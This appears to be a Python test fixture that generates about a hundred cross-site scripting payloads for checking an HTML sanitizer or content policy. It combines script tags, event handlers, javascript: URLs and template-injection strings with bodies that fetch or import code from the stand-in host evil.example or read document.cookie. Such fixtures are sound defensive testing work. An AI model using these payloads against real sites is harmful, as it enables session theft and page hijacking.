"""A hundred ways to smuggle a script into a page: each would open a dialog, ask another host or break the policy."""

from __future__ import annotations

EVIL = "https://evil.example"
RUNS = ("alert(1)", f"fetch('{EVIL}/x')", f"import('{EVIL}/x.js')", "document.title='owned';alert(document.cookie)")
SHAPES = (
    "<script>{run}</script>",
    "</textarea><script>{run}</script>",
    "\"'><script>{run}</script>",
    "<img src=x onerror=\"{run}\">",
    "<svg onload=\"{run}\">",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<iframe src=\"javascript:{run}\"></iframe>",
    "<a href=\"javascript:{run}\">click</a>",
    "[click](javascript:{run})",
    "javascript:{run}",
    "<details open ontoggle=\"{run}\">",
    "<input autofocus onfocus=\"{run}\">",
    "<video><source onerror=\"{run}\"></video>",
    "<body onload=\"{run}\">",
    "<math><mtext><img src=x onerror=\"{run}\"></mtext></math>",
    "<style>@import '" + EVIL + "/{run}.css';</style>",
    "<link rel=stylesheet href=" + EVIL + "/a.css><!--{run}-->",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "-->'\"/></title></style></script><script>{run}</script>",
)  # fmt: skip
MORE = (
    f"<img src={EVIL}/pixel.png>",
    f"<form action={EVIL}><button>send</button></form>",
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x">',
    f"<base href={EVIL}/>",
    "data:text/html,<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "\x7f<img/src=x/onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
    "https://example.org/\"onmouseover=alert(1)//",
    "http://example.org/<script>alert(1)</script>",
    "__proto__",
    "constructor",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(shape.format(run=run) for run in RUNS for shape in SHAPES) + MORE
